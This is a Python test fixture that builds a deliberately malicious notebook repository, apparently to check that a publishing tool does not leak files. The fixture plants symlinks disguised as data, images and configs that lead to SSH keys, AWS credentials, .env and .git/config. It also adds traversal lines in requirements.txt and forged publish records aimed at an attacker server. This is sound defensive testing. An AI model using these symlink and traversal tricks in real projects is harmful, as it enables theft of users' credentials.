"""A repository made to steal: what it tries to have published, or to send its author's colleagues' files to.

Everything that must not leave contains `STOLEN`; whatever must not run writes the file ``executed`` into the home.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from notebook_documents import notebook_document

STOLEN = "STOLEN"
OUTSIDE = (
    ".ssh/id_ed25519", ".aws/credentials", ".config/gh/hosts.yml", "notes.txt", "picture.png", "other/data.csv",
    "other/helpers.py", "other/pkg/__init__.py", "other/script.py", "other/requirements.txt", "other/voila.json",
    "other/_quarto.yml", "other/refs.bib",
)  # fmt: skip
LINKS = {
    "a credential behind the name of data": ("data.csv", "../../.aws/credentials"),
    "a key behind the name of weights": ("weights.bin", "../../.ssh/id_ed25519"),
    "an absolute link": ("absolute.csv", "{home}/notes.txt"),
    "a folder": ("folder", "../../other"),
    "a folder of keys": ("keys", "../../.ssh"),
    "a link to a link": ("second.csv", "data.csv"),
    "by way of a link that stays inside": ("third.csv", "up/../../notes.txt"),
    "a file that a pattern finds": ("parts/part-1.csv", "../../../other/data.csv"),
    "a file that belongs to another one": ("map.dbf", "../../notes.txt"),
    "the project's own secret": ("settings.txt", ".env"),
    "the address of the repository, with its token": ("config.txt", ".git/config"),
    "a hidden file of the project": ("hidden.csv", ".private/a.csv"),
    "a hidden folder of the project": ("shown", ".private"),
    "a module": ("helpers.py", "../../other/helpers.py"),
    "a package": ("pkg", "../../other/pkg"),
    "a script": ("script.py", "../../other/script.py"),
    "a picture of the text": ("logo.png", "../../.ssh/id_ed25519"),
    "a picture of the text, in HTML": ("image.png", "../../notes.txt"),
    "a film": ("film.mp4", "../../notes.txt"),
    "the still of a film": ("still.jpg", "../../.aws/credentials"),
    "a picture of an output": ("output.png", "../../.config/gh/hosts.yml"),
    "a picture that is the project's own secret": ("env.png", ".env"),
    "a bibliography": ("refs.bib", "../../other/refs.bib"),
    "the settings of Voilà": ("voila.json", "../../other/voila.json"),
    "the settings of Quarto": ("_quarto.yml", "../../other/_quarto.yml"),
    "constraints": ("constraints.txt", "../../.ssh/id_ed25519"),
    "more requirements": ("more.txt", "../../other/requirements.txt"),
    "a list of packages in another format": ("pylock.toml", "../../notes.txt"),
    "an endless file": ("endless.csv", "/dev/zero"),
}
"""What it tries -> a link of the project, and what it leads to."""

LINES = (
    "-r ../../.ssh/id_ed25519",
    "-r more.txt",
    "-c constraints.txt",
    "-r .env",
    "-r .git/config",
    "-c ../../notes.txt",
)
READS = """
def never():
    for name in ("data.csv", "weights.bin", "absolute.csv", "folder/data.csv", "keys/id_ed25519", "second.csv",
                 "third.csv", "settings.txt", "config.txt", "hidden.csv", "shown/a.csv", ".env", ".git/config",
                 "endless.csv", "../../notes.txt", "/etc/hostname"):
        open(name).read()
    open("data.csv"), open("weights.bin"), open("absolute.csv"), open("folder/data.csv"), open(".env")
    open("keys/id_ed25519"), open("second.csv"), open("third.csv"), open("settings.txt"), open("config.txt")
    open("hidden.csv"), open("shown/a.csv"), open(".git/config"), open("endless.csv"), open("../../notes.txt")
    import glob, os
    glob.glob("parts/*.csv"), os.listdir("keys"), os.listdir("folder"), os.listdir("shown"), os.listdir(".git")
    read_file("map.shp")
    import helpers, pkg
"""
TEXT = """# Quarterly sales

![logo](logo.png) <img src="image.png"> <img src='../../picture.png'> <img src="env.png"> ![x](.git/config)
<video src="film.mp4" poster="still.jpg"></video> [keys](weights.bin) [notes](../../notes.txt) ![y](keys/id_ed25519)
"""


def write_outside(home: Path) -> None:
    """Write what the user has outside the project."""
    for name in OUTSIDE:
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(f"# {STOLEN} {name}\n{STOLEN}\n")
    (home / "other" / "voila.json").write_text(json.dumps({"VoilaConfiguration": {"theme": STOLEN}}))


def write_project(folder: Path, *, home: Path, sandbox_url: str, evil_url: str, guid: str) -> Path:
    """Write the repository and return its notebook.

    Args:
        folder: Its place, two folders below the home.
        home: The user's.
        sandbox_url: The server that the user publishes to.
        evil_url: A server of who made the repository.
        guid: Content on `sandbox_url` of who made the repository, which the user may change.
    """
    for name in (".git", ".private", "parts", "up", "rsconnect-python"):
        (folder / name).mkdir(parents=True, exist_ok=True)
    (folder / ".git" / "config").write_text(f"[remote]\nurl = https://user:{STOLEN}@example.com/x.git\n")
    (folder / ".env").write_text(f"{STOLEN}\n")
    (folder / ".private" / "a.csv").write_text(f"{STOLEN}\n")
    (folder / "map.shp").write_text("shapes")
    (folder / "requirements.txt").write_text("packaging\n" + "".join(f"{each}\n" for each in LINES))
    for name, target in LINKS.values():
        (folder / name).symlink_to(target.format(home=home))
    notebook = folder / "sales.ipynb"
    notebook.write_text(json.dumps(_document(sandbox_url, evil_url, guid)), encoding="utf-8")
    record = {url: _claims(url, guid) for url in (sandbox_url, evil_url)}
    (folder / "rsconnect-python" / "sales.json").write_text(json.dumps(record))
    return notebook


def _document(sandbox_url: str, evil_url: str, guid: str) -> dict[str, Any]:
    document = notebook_document(READS, "print(6 * 7)", "def script():\n    %run script.py", heading=TEXT)
    output = {"output_type": "display_data", "metadata": {}, "data": {"text/html": '<img src="output.png">'}}
    document["cells"][2]["outputs"].append(output)
    document["metadata"]["bibliography"] = "refs.bib"
    document["metadata"]["rsconnect"] = {"version": 1, "servers": {"a": _predecessor(evil_url, guid),
                                                                  "b": _predecessor(sandbox_url, guid)}}  # fmt: skip
    return document


def _predecessor(url: str, guid: str) -> dict[str, Any]:
    return {"server": url, "appId": 1, "appMode": "static", "configUrl": f"{url}/connect/#/apps/{guid}"}


def _claims(url: str, guid: str) -> dict[str, Any]:
    """Return what a record says of a publish that the user is said to have made, later than all others."""
    publication = {
        "guid": guid, "title": "Yours, really", "mode": "static", "user": "admin", "time": "9999-01-01T00:00:00Z",
        "files": ["data.csv", "weights.bin", "../../notes.txt", ".env", ".git/config"], "bundles": ["1", "2", "3"],
        "requirements": "../../.ssh/id_ed25519", "url": f"{url}/steal", "hide_input": "none",
    }  # fmt: skip
    ours = {"notebook": None, "publications": [publication, {**publication, "user": ""}]}
    theirs = {"server_url": url, "app_guid": guid, "app_id": guid, "app_mode": "static", "title": "Yours, really"}
    return {**theirs, "rsconnect_jupyter": ours}
